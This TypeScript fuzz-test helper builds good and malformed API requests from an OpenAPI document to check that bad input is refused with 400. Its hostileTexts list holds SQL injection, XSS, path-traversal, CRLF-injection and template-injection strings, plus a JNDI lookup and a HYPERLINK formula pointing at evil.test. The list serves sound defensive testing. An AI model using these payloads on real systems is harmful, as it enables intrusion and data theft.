// Requests made from the OpenAPI document: good ones, and ones with something wrong in them.
import fc from 'fast-check';
import { type ApiDocument, dereference } from '../../support/document.ts';

export interface MadeRequest {
  url: string;
  /** What is certainly wrong with it: it must be refused with 400. Undefined when nothing is. */
  fault: string | undefined;
}

interface Schema {
  $ref?: string;
  type?: string;
  enum?: string[];
  minimum?: number;
  maximum?: number;
  items?: Schema;
}

interface Parameter {
  in: string;
  name: string;
  required?: boolean;
  example?: unknown;
  schema: Schema;
}

/** Part of a query string, encoded, and what is wrong with it. */
interface Part {
  text: string;
  fault?: string;
}

const encode = encodeURIComponent;

const prototypeNames = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

export const hostileTexts = [
  "' OR '1'='1",
  "'; DROP TABLE statements; --",
  "1' UNION SELECT sql FROM sqlite_master --",
  '") OR 1=1 --',
  'NEAR(a b, 2)',
  '"unbalanced',
  'a* AND NOT -b OR (c',
  'words : x',
  '{words stems} : x',
  '^a',
  '*',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.test")',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack, not a template.
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  'x\r\nSet-Cookie: x=1',
  '%00',
  '\u202e\u200b',
  '\u{1f600}'.repeat(20),
  'a'.repeat(499),
  ...prototypeNames,
];

/** Encodings that are no UTF-8, and characters that no text has. */
const brokenEncodings = ['%ff', '%c3%28', '%ed%a0%80', '%00', 'x%1b%5b31m'];

export function requestArbitrary(document: ApiDocument): fc.Arbitrary<MadeRequest> {
  const operations = document.operations
    // A large file over and over tests nothing but the disk.
    .filter(({ path }) => path !== '/dataset.sqlite')
    .map(({ path, operation }) => {
      const parameters = (operation.parameters ?? []) as Parameter[];
      return operationArbitrary(document, path, parameters);
    });
  return fc.oneof(...operations);
}

function operationArbitrary(
  document: ApiDocument,
  path: string,
  parameters: readonly Parameter[],
): fc.Arbitrary<MadeRequest> {
  const query = parameters.filter((parameter) => parameter.in === 'query');
  const id = parameters.find((parameter) => parameter.in === 'path');
  const required = query.filter((parameter) => parameter.required);
  const optional = query.filter((parameter) => !parameter.required);
  const good = (parameter: Parameter) => goodPart(document, parameter);
  const chosen = fc.subarray(optional, { maxLength: Math.min(3, optional.length) });
  const base = chosen.chain((some) => fc.tuple(...[...required, ...some].map(good)));
  const bad = fc.oneof(fc.constant(undefined), badPart(document, query));
  return fc.tuple(base, bad, idArbitrary(id)).map(([parts, wrong, { text, isGood }]) => {
    const all = wrong === undefined ? parts : replaceNamesake(parts, wrong);
    const search = all.map((part) => part.text).join('&');
    const url = path.replace(/\{\w+\}/, text) + (search === '' ? '' : `?${search}`);
    // A bad id is a 404, whatever else is wrong.
    return { url, fault: isGood ? wrong?.fault : undefined };
  });
}

/** A parameter that is wrong on purpose is given once, unless twice is what is wrong. */
function replaceNamesake(parts: readonly Part[], wrong: Part): Part[] {
  const name = (part: Part) => part.text.split('=')[0];
  return [...parts.filter((part) => name(part) !== name(wrong)), wrong];
}

function idArbitrary(parameter: Parameter | undefined) {
  const good = { text: encode(String(parameter?.example ?? '')), isGood: true };
  if (!parameter) return fc.constant(good);
  const hostile = fc
    .oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: 'grapheme', minLength: 1 }))
    .map((text) => ({ text: encode(text), isGood: false }));
  const broken = fc.constantFrom(...brokenEncodings, '%zz', '%', '..%2f..%2fetc', '%2e%2e/x', '');
  return fc.oneof(
    { arbitrary: fc.constant(good), weight: 2 },
    { arbitrary: hostile, weight: 1 },
    { arbitrary: broken.map((text) => ({ text, isGood: false })), weight: 1 },
  );
}

function goodPart(document: ApiDocument, { name, ...parameter }: Parameter): fc.Arbitrary<Part> {
  const values = listGoodValues(document, parameter);
  return fc.constantFrom(...values).map((value) => ({ text: `${name}=${encode(value)}` }));
}

function listGoodValues(
  document: ApiDocument,
  { example = [], schema }: Pick<Parameter, 'example' | 'schema'>,
): string[] {
  const { type, minimum = 1, maximum = 3, items } = schema;
  if (type === 'integer') return [String(minimum), String(Math.min(maximum, minimum + 1))];
  const listed = findEnum(document, schema) ?? (items && findEnum(document, items));
  if (listed) return listed;
  const examples = [example].flat().map(String);
  // Free text without an example, such as a cursor, has no value that is good in itself.
  return examples.length > 0 ? examples : ['x'];
}

function findEnum(document: ApiDocument, schema: Schema): string[] | undefined {
  const name = schema.$ref?.split('/').at(-1);
  const found = name === undefined ? schema : document.raw.components.schemas?.[name];
  return (dereference(document.raw, found as Schema) as Schema | undefined)?.enum;
}

function badPart(document: ApiDocument, query: readonly Parameter[]): fc.Arbitrary<Part> {
  const known = new Set(query.map(({ name }) => name));
  const unknown = fc
    .oneof(fc.constantFrom(...prototypeNames, 'Limit', 'q[]', 'limit[$gt]', 'page'), fc.string())
    .filter((name) => name !== '' && !known.has(name))
    .map((name) => ({ text: `${encode(name)}=1`, fault: 'unknown parameter' }));
  const each = query.map((parameter) => badValue(document, parameter));
  return fc.oneof(unknown, ...each);
}

function badValue(document: ApiDocument, { name, example, schema }: Parameter): fc.Arbitrary<Part> {
  const part = (value: string, fault?: string): Part => ({
    text: `${name}=${value}`,
    ...(fault !== undefined && { fault }),
  });
  const isList = schema.type === 'array';
  const isClosed =
    schema.type === 'integer' ||
    (findEnum(document, schema) ?? (schema.items && findEnum(document, schema.items)));
  const [good = 'x'] = listGoodValues(document, { example, schema });
  const faults = [
    fc.constant(part('', 'empty')),
    fc.constantFrom(...brokenEncodings).map((value) => part(value, 'not a text')),
    fc.constant(part(encode('a'.repeat(2500)), 'too long')),
    isList
      ? fc.constant(part(Array(51).fill('x').join(','), 'too many values'))
      : fc.constant(part(`${encode(good)}&${name}=${encode(good)}`, 'given twice')),
  ];
  const numbers = ['-1', '1e2', '0x10', '1.5', 'NaN', '１', ' 1 1 '];
  // Where there is no maximum, it is a number like any other.
  if (schema.type !== 'integer' || schema.maximum !== undefined) numbers.push('9'.repeat(21));
  const closed = fc.constantFrom(...hostileTexts, ...numbers).map(encode);
  const open = fc.oneof(
    fc.constantFrom(...hostileTexts).map(encode),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).map(encode),
  );
  const value = isClosed
    ? closed.map((text) => part(text, 'not one of the values'))
    : open.map((text) => part(text));
  return fc.oneof(value, ...faults);
}
